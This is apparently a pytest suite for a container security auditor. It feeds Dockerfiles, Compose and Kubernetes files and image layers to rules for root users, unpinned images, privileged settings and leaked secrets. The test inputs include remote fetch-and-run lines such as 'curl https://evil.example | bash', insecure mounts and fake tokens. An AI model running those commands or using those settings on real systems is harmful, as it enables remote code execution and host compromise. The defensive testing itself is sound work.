"""Each rule on inputs the tests write, with the near misses that must NOT fire."""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path

import pytest

from pysbx.audit.engine import AuditOptions, audit
from pysbx.audit.findings import Finding
from pysbx.policies.model import Policy
from tests.imagekit import T, image_of, write_image


def run(tmp_path: Path, name: str, text: str, options: AuditOptions | None = None) -> list[Finding]:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text).lstrip())
    return audit([str(path)], options).findings


def rules(findings: list[Finding]) -> set[tuple[str, int | None]]:
    return {(f.rule_id, f.line) for f in findings}


def ids(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


# ----- Dockerfiles --------------------------------------------------------------------------


def test_dockerfile_root_user_is_decided_by_the_final_stage_only(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "Dockerfile",
        """
        FROM golang:1.22@sha256:0000000000000000000000000000000000000000000000000000000000000000 AS build
        USER root
        FROM build
        USER 1000
        """,
    )
    assert "PA1010" not in ids(found)  # the build stage's root does not matter
    root = run(tmp_path, "Dockerfile", "FROM build-base:1 AS build\nUSER app\nFROM alpine:3.20\nUSER 0:0\n")
    assert ("PA1010", 4) in rules(root)
    inherited = run(tmp_path, "Dockerfile", "FROM alpine:3.20 AS base\nUSER nobody\nFROM base\nRUN true\n")
    assert "PA1010" not in ids(inherited)  # FROM base inherits base's USER
    missing = run(tmp_path, "Dockerfile", "FROM alpine:3.20\nRUN true\n")
    assert ("PA1010", 1) in rules(missing)


def test_dockerfile_pinning_substitutes_args_and_skips_stages(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "Dockerfile",
        """
        ARG BASE=debian
        ARG TAG=latest
        FROM ${BASE}:${TAG} AS build
        FROM build
        FROM scratch
        COPY --from=build /x /x
        FROM python:3.12-slim
        FROM python:3.12-slim@sha256:1111111111111111111111111111111111111111111111111111111111111111
        USER app
        """,
    )
    assert ("PA1020", 3) in rules(found)  # debian:latest after substitution
    assert ("PA1021", 7) in rules(found)  # a tag without a digest
    assert {line for rule, line in rules(found) if rule.startswith("PA102")} == {3, 7}


def test_dockerfile_hygiene_rules_and_near_misses(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "Dockerfile",
        """
        # syntax=docker/dockerfile:1
        FROM alpine:3.20@sha256:2222222222222222222222222222222222222222222222222222222222222222
        ADD https://example.com/tool.tgz /tmp/
        ADD --checksum=sha256:abc https://example.com/ok.tgz /tmp/
        ADD vendor.tar.gz /opt/
        RUN curl -fsSL https://get.example.com | sh
        RUN curl -fsSLo install.sh https://get.example.com && sha256sum -c sums && sh install.sh
        RUN sudo apk add git
        RUN apk upgrade
        RUN apk add --no-cache ca-certificates
        RUN apk add make
        RUN pip install requests
        RUN pip install --no-cache-dir flask
        RUN apt-get update && apt-get install -y curl
        RUN apt-get update && apt-get install -y wget && rm -rf /var/lib/apt/lists/*
        USER 10001
        """,
    )
    assert rules(found) == {
        ("PA1200", 3),
        ("PA1200", 5),
        ("PA1201", 6),
        ("PA1202", 8),
        ("PA1031", 8),  # and that apk add keeps its cache
        ("PA1203", 9),
        ("PA1031", 11),
        ("PA1031", 12),
        ("PA1031", 14),
    }


def test_dockerfile_heredocs_continuations_and_escape_directive(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "Dockerfile",
        """
        # escape=`
        FROM mcr.microsoft.com/windows/servercore:ltsc2022@sha256:3333333333333333333333333333333333333333333333333333333333333333
        RUN echo one `
            two
        RUN <<EOF
        curl https://evil.example | bash
        EOF
        USER ContainerUser
        """,
    )
    assert rules(found) == {("PA1201", 5)}


def test_dockerfile_secrets_in_env_and_arg(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "Dockerfile",
        """
        FROM alpine:3.20@sha256:2222222222222222222222222222222222222222222222222222222222222222
        ENV AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP
        ENV DB_PASSWORD=hunter2
        ARG API_TOKEN
        ENV PASSWORD_FILE=/run/secrets/db
        ENV SECRET_KEY=${SECRET_KEY}
        USER app
        """,
    )
    assert rules(found) == {("PA1040", 2), ("PA1040", 3)}


def test_inline_suppression_needs_a_reason(tmp_path: Path) -> None:
    result = audit(
        [
            str(
                _write(
                    tmp_path,
                    "Dockerfile",
                    "FROM alpine:3.20\n# pyaudit: ignore[unpinned-digest] base pinned by renovate\nFROM alpine:3.19 AS x\n# pyaudit: ignore[root-user]\nUSER root\n",
                )
            )
        ]
    )
    assert ids(result.findings) == {"PA1021", "PA1900"}  # the first FROM still fires; root is ignored but reported
    assert {f.rule_id for f in result.suppressed} == {"PA1021", "PA1010"}


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


# ----- Compose ------------------------------------------------------------------------------


def test_compose_runtime_settings(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "compose.yaml",
        """
        services:
          bad:
            image: nginx
            privileged: true
            pid: host
            network_mode: host
            ipc: host
            uts: host
            user: root
            cap_add: [SYS_ADMIN, NET_BIND_SERVICE]
            security_opt: ["seccomp:unconfined"]
            volumes:
              - /var/run/docker.sock:/var/run/docker.sock
              - /etc:/host-etc:ro
              - data:/data
              - ./src:/src
          good:
            image: nginx:1.27@sha256:4444444444444444444444444444444444444444444444444444444444444444
            user: "1000"
            read_only: true
            security_opt: [no-new-privileges:true]
            cap_add: [NET_BIND_SERVICE]
          built:
            build: .
            image: myapp
            read_only: true
            security_opt: ["no-new-privileges=true"]
        volumes:
          data: {}
        """,
    )
    assert rules(found) == {
        ("PA1020", 3),
        ("PA1001", 4),
        ("PA1002", 5),
        ("PA1003", 6),
        ("PA1004", 7),
        ("PA1005", 8),
        ("PA1010", 9),
        ("PA1060", 10),
        ("PA1080", 13),
        ("PA1081", 14),
    }
    by_rule = {f.rule_id: f for f in found}
    assert by_rule["PA1081"].severity == "medium"  # read-only /etc is still reported, lower


def test_compose_hardening_defaults_are_reported_low(tmp_path: Path) -> None:
    found = run(tmp_path, "docker-compose.yml", "services:\n  web:\n    image: nginx:1.27@sha256:" + "5" * 64 + "\n")
    assert {(f.rule_id, f.severity) for f in found} == {("PA1090", "low"), ("PA1091", "low")}


# ----- Kubernetes ---------------------------------------------------------------------------


POD = """
apiVersion: apps/v1
kind: Deployment
metadata: {name: web}
spec:
  template:
    spec:
      hostNetwork: true
      securityContext:
        runAsNonRoot: true
        seccompProfile: {type: RuntimeDefault}
      initContainers:
        - name: init
          image: busybox:1.36@sha256:6666666666666666666666666666666666666666666666666666666666666666
          securityContext:
            runAsUser: 0
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
      containers:
        - name: app
          image: registry.example/app:2.1
          securityContext:
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            capabilities: {add: [NET_ADMIN], drop: [ALL]}
            seccompProfile: {type: Unconfined}
          volumeMounts: [{name: sock, mountPath: /var/run/docker.sock}]
      volumes:
        - name: sock
          hostPath: {path: /var/run/docker.sock}
"""


def test_kubernetes_inheritance_and_container_lists(tmp_path: Path) -> None:
    found = run(tmp_path, "deploy.yaml", POD)
    assert rules(found) == {
        ("PA1003", 7),  # hostNetwork, for both containers
        ("PA1010", 15),  # the init container's own runAsUser: 0 beats the pod's runAsNonRoot
        ("PA1021", 20),
        ("PA1060", 24),
        ("PA1070", 25),  # the container's Unconfined beats the pod's RuntimeDefault
        ("PA1080", 28),
    }


def test_kubernetes_unset_user_and_seccomp_are_lower_severity(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "pod.yaml",
        """
        apiVersion: v1
        kind: Pod
        metadata: {name: p}
        spec:
          containers:
            - name: c
              image: nginx:1.27@sha256:7777777777777777777777777777777777777777777777777777777777777777
        """,
    )
    assert {(f.rule_id, f.severity) for f in found} == {
        ("PA1010", "low"),
        ("PA1070", "medium"),
        ("PA1090", "medium"),
        ("PA1091", "low"),
    }


def test_kubernetes_lists_and_cronjobs(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        "list.yaml",
        """
        apiVersion: v1
        kind: List
        items:
          - apiVersion: batch/v1
            kind: CronJob
            metadata: {name: nightly}
            spec:
              jobTemplate:
                spec:
                  template:
                    spec:
                      hostPID: true
                      containers: [{name: c, image: "alpine:latest"}]
        ---
        apiVersion: v1
        kind: ConfigMap
        metadata: {name: not-a-workload}
        """,
    )
    assert {"PA1002", "PA1020"} <= ids(found)


# ----- runtime configs ----------------------------------------------------------------------


def test_docker_inspect_output(tmp_path: Path) -> None:
    inspect = [
        {
            "Name": "/web",
            "Config": {"Image": "nginx:latest", "User": ""},
            "HostConfig": {
                "Privileged": False,
                "PidMode": "host",
                "CapAdd": ["SYS_PTRACE"],
                "SecurityOpt": ["seccomp=unconfined"],
                "Binds": ["/:/host:ro"],
                "ReadonlyRootfs": True,
            },
        }
    ]
    found = run(tmp_path, "inspect.json", json.dumps(inspect, indent=2))
    assert {"PA1010", "PA1020", "PA1002", "PA1060", "PA1070", "PA1081", "PA1090"} == ids(found)  # User "" is root


def test_oci_runtime_config(tmp_path: Path) -> None:
    config = {
        "ociVersion": "1.0.2",
        "process": {
            "user": {"uid": 0, "gid": 0},
            "args": ["sh"],
            "capabilities": {"bounding": ["CAP_SYS_ADMIN", "CAP_CHOWN"]},
        },
        "root": {"path": "rootfs", "readonly": False},
        "linux": {"namespaces": [{"type": "pid"}, {"type": "mount"}, {"type": "ipc"}, {"type": "uts"}]},
    }
    found = run(tmp_path, "config.json", json.dumps(config, indent=2))
    assert {"PA1003", "PA1010", "PA1060", "PA1070", "PA1090", "PA1091"} == ids(found)


# ----- images -------------------------------------------------------------------------------


def test_image_rules_on_a_built_image(tmp_path: Path) -> None:
    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n"
    image = image_of(
        [
            T("usr", "dir"),
            T("usr/bin", "dir"),
            T("usr/bin/su", data=b"\x7fELF", mode=0o4755),
            T("usr/bin/wall", data=b"\x7fELF", mode=0o2755),
            T("root", "dir"),
            T("root/.ssh", "dir"),
            T("root/.ssh/id_ed25519", data=key, mode=0o600),
            T("var/lib/apt/lists", "dir"),
            T("var/lib/apt/lists/deb.debian.org_dists", data=b"x" * 5000),
            T("var/lib/apt/lists/lock", data=b""),
            T("app", "dir"),
            T("app/big.bin", data=b"\1" * 100_000),
            T("app/README", data=b"harmless"),
        ],
        [T("root/.ssh/.wh.id_ed25519"), T("app/big.bin", data=b"\2" * 100_000)],
        config={"User": "", "Env": ["GITHUB_TOKEN=ghp_" + "a" * 36, "PATH=/bin"]},
    )
    path = write_image(image, tmp_path, "docker-legacy", "example/app:latest")
    policy = Policy(version=1)
    result = audit([path], AuditOptions(policy=policy))
    found = {(f.rule_id, f.path) for f in result.findings}
    assert ("PA1040", "/root/.ssh/id_ed25519") in found  # deleted later, still shipped
    assert ("PA1050", "/usr/bin/su") in found and ("PA1050", "/usr/bin/wall") in found
    assert ("PA1031", None) in found  # apt lists
    assert ids(result.findings) >= {"PA1010", "PA1020", "PA1040"}
    secret_messages = [f.message for f in result.findings if f.rule_id == "PA1040"]
    assert any("deleted later" in message for message in secret_messages)
    assert any("GITHUB_TOKEN" in message for message in secret_messages)
    assert "PA1030" not in ids(result.findings)  # no threshold in the default policy
    summary = result.images[0]
    assert summary.wasted_bytes == 100_000 + len(key)


def test_bloat_thresholds_come_from_the_policy(tmp_path: Path) -> None:
    from pysbx.policies.loader import load_policy

    image = image_of([T("a", data=b"1" * 50_000)], [T("a", data=b"2" * 50_000)])
    path = write_image(image, tmp_path, "oci-archive")
    strict = load_policy("strict").policy  # dive's CI defaults: max_user_wasted_ratio 0.1, min_efficiency 0.9
    result = audit([path], AuditOptions(policy=strict))
    bloat = [f for f in result.findings if f.rule_id == "PA1030"]
    assert len(bloat) == 1 and "50000 bytes (50.0% of all stored)" in bloat[0].message
    assert "dive user-wasted 200.0%" in bloat[0].message  # dive counts every version of a file changed
    assert "PA1100" in ids(result.findings)  # strict requires a signature and none is beside it
    near_miss = audit(
        [write_image(image_of([T("a", data=b"1" * 50_000)]), tmp_path / "..", "docker-legacy")],
        AuditOptions(policy=strict),
    )
    assert "PA1030" not in ids(near_miss.findings)


def only_input_error(path: Path) -> str:
    """The one input error `audit` reports for `path` (and no other finding), as its message."""
    result = audit([str(path)])
    assert len(result.input_errors) == 1 and result.findings == result.input_errors, result.findings
    assert result.input_errors[0].rule_id == "PA1990"
    return result.input_errors[0].message


def test_unreadable_inputs_are_errors(tmp_path: Path) -> None:
    from pysbx.audit.detect import AuditInputError

    with pytest.raises(AuditInputError, match="no such file"):
        audit([str(tmp_path / "missing.yaml")])
    (tmp_path / "notes.yaml").write_text("just: a config\n")
    assert "not a Dockerfile, Compose file" in only_input_error(tmp_path / "notes.yaml")
    (tmp_path / "bad.yaml").write_text("services:\n  web: [\n")
    assert re.search(r"bad.yaml:3:1: not valid YAML", only_input_error(tmp_path / "bad.yaml"))
    (tmp_path / "Dockerfile").write_text("FROM alpine\nFROBNICATE x\n")
    assert re.search(r"Dockerfile:2: unknown instruction 'FROBNICATE'", only_input_error(tmp_path / "Dockerfile"))


def test_inline_suppression_in_yaml_covers_its_line_and_the_next(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "compose.yaml",
        "services:\n  agent:\n    image: agent:1.2@sha256:" + "8" * 64 + "\n"
        "    # pyaudit: ignore[docker-socket] the agent manages containers by design\n"
        "    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n"
        "    privileged: true  # pyaudit: ignore[PA1003] wrong rule: privileged still fires\n",
    )
    result = audit([str(path)])
    assert {f.rule_id for f in result.suppressed} == {"PA1080"}
    assert "PA1001" in ids(result.findings)


def test_secrets_are_found_by_content_in_any_file_deleted_ones_included(tmp_path: Path) -> None:
    """Not by name alone: an OpenSSH key at /app/deploy_key, a Slack token in settings.py, a
    long varied value given to a name that says secret; a file removed by a later layer still
    holds its bytes in the image. Placeholders, variables, URLs and words are no secret."""
    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
    settings = b'DEBUG = False\nSLACK = "xoxb-123456789012-abcdefghijkl"\n'
    generic = b'API_KEY = "q8Zt3LmW9vX2pR7nK4sJ6hF1"\n'
    harmless = (
        b'PASSWORD = "changeme"\nSECRET_KEY = "${SECRET_KEY}"\nTOKEN_URL = "https://auth.example/token/endpoint"\n'
        b'API_KEY = "aaaaaaaaaaaaaaaaaaaaaaaa"\nACCESS_KEY = "/run/secrets/access-key-file"\npassword_hint = "the usual one"\n'
    )
    image = image_of(
        [T("app", "dir"), T("app/deploy_key", data=key), T("app/settings.py", data=settings), T("app/old.env.py", data=generic),
         T("app/harmless.py", data=harmless), T("bin", "dir"), T("bin/tool", data=b"\x7fELF" + b"\0" * 64 + b"password=")],
        [T("app", "dir"), T("app/.wh.old.env.py")],
        config={"User": "1000"},
    )  # fmt: skip
    found = audit([write_image(image, tmp_path, "oci-archive")]).findings
    secrets = {f.path: f.message for f in found if f.rule_id == "PA1040"}
    assert set(secrets) == {"/app/deploy_key", "/app/settings.py", "/app/old.env.py"}, secrets
    assert "a private key" in secrets["/app/deploy_key"] and "a Slack token" in secrets["/app/settings.py"]
    assert "API_KEY" in secrets["/app/old.env.py"] and "deleted later" in secrets["/app/old.env.py"]


TOKEN_SAMPLES = {
    "an AWS access key id": "AKIAABCDEFGHIJKLMNOP",
    "a GitHub token": "ghp_" + "a1" * 18,
    "a GitLab token": "glpat-" + "x" * 20,
    "a Slack token": "xoxb-1234567890-abc",
    "a Google API key": "AIza" + "B" * 35,
    "a Stripe secret key": "sk_live_" + "c" * 24,
    "a private key": "-----BEGIN EC PRIVATE KEY-----",
    "an npm token": "npm_" + "d" * 36,
}


def _whole_file_verdict(data: bytes) -> str | None:
    """What the detectors say reading every line: the answer marked_lines must not change."""
    from pysbx.audit.secrets import secret_in_lines

    return secret_in_lines(data.decode("utf-8", "replace"))


def test_reading_only_the_marked_lines_finds_what_reading_every_line_finds() -> None:
    """Files are read for secrets only on lines holding a marker: each token format, a
    password in a URL and each secret name, placed amid 2,000 ordinary lines, must be found
    as reading the whole file finds it, so a format added without its marker fails here."""
    from pysbx.audit.secrets import TOKEN_PATTERNS, secret_in_text

    assert set(TOKEN_SAMPLES) == set(TOKEN_PATTERNS)
    secrets = [f"value {token} end" for token in TOKEN_SAMPLES.values()]
    secrets += ["DB = 'postgres://app:s3cr3t-Pw@db:5432/app'", "  export Stripe_Credentials='q8Zt3LmW9vX2pR7nK4sJ6hF1'"]
    secrets += [
        f'{name} = "q8Zt3LmW9vX2pR7nK4sJ6hF1"'
        for name in (
            "DB_PASSWD",
            "app.secret",
            "Auth_Token",
            "Api_Key",
            "privatekey",
            "API_\u212aEY",
            "DB_PA\u017f\u017fWORD",
        )
    ]
    filler = [f"    total_{n} = compute(items[{n}], scale={n % 7})  # ordinary code, line {n}" for n in range(2000)]
    for secret in secrets:
        for where in (0, 1000, 2000):
            data = "\n".join([*filler[:where], secret, *filler[where:]]).encode()
            assert secret_in_text(data) is not None, secret
            assert secret_in_text(data) == _whole_file_verdict(data), secret
    assert secret_in_text("\n".join(filler).encode()) is None


def test_the_markers_pass_over_only_what_the_detectors_would_not_match() -> None:
    """token_in and is_secret_name look for a marker before they compile or run a detector
    (most Dockerfiles compile none): each must answer as the detector alone answers, for every
    token format, a URL password, every secret-name ending in any case, and names whose case
    folding leaves ASCII (the Kelvin sign folds to k, the long s to s)."""
    from pysbx.audit.secrets import detectors, is_secret_name, token_in

    found = detectors()

    def token_alone(text: str) -> str | None:
        for what, pattern in found.tokens.items():
            if pattern.search(text):
                return what
        words = [m.group(1) for m in found.url_password.finditer(text)]
        if any(not found.placeholder.match(w) and not found.url_placeholder.match(w) for w in words):
            return "a password in a connection string"
        return None

    texts = [f"x={token};" for token in TOKEN_SAMPLES.values()]
    texts += ["postgres://app:s3cr3t-Pw@db/app", "https://example.com/path", "plain value", "sk_test_" + "c" * 24]
    for text in texts:
        assert token_in(text) == token_alone(text), text
    assert sum(token_in(text) is not None for text in texts) == len(TOKEN_SAMPLES) + 1
    endings = ["PASSWORD", "PASSWD", "SECRET", "TOKEN", "API_KEY", "APIKEY", "PRIVATE_KEY", "ACCESS_KEY", "CREDENTIAL"]
    names = [spelled for end in endings for spelled in (end, end.lower(), end.title(), f"DB_{end}", f"{end}_FILE")]
    names += ["API_\u212aEY", "\u017fECRET", "DB_PA\u017f\u017fWORD", "HOME", "PATH", "keyboard_layout", "café"]
    for name in names:
        assert is_secret_name(name) == bool(found.secret_name.search(name)), name
    assert is_secret_name("API_\u212aEY") and is_secret_name("\u017fECRET") and not is_secret_name("PATH")


def test_binary_files_are_not_read_for_secrets_text_files_are_read_whole(tmp_path: Path) -> None:
    """A NUL in the first 8 KiB makes a file binary (git's and trivy's rule): an ELF's strings
    are not read as assignments, and the image walk does not even copy it out of the layer.
    A NUL further on does not hide a key in a text file."""
    from pysbx.audit.secrets import BINARY_PROBE, secret_content

    key = b"\n-----BEGIN RSA PRIVATE KEY-----\n"
    late_nul, early_nul = b"x" * BINARY_PROBE + b"\0" + key, b"x" * (BINARY_PROBE - 1) + b"\0" + key
    assert secret_content(b"\x7fELF\0\0" + key, "bin/tool") is None
    assert secret_content(late_nul, "etc/late") == "a private key" and secret_content(early_nul, "etc/early") is None
    image = image_of(
        [T("etc", "dir"), T("etc/late", data=late_nul), T("etc/early", data=early_nul), T("etc/plain", data=key)],
        config={"User": "1000"},
    )
    found = audit([write_image(image, tmp_path, "oci-archive")]).findings
    assert {f.path for f in found if f.rule_id == "PA1040"} == {"/etc/late", "/etc/plain"}
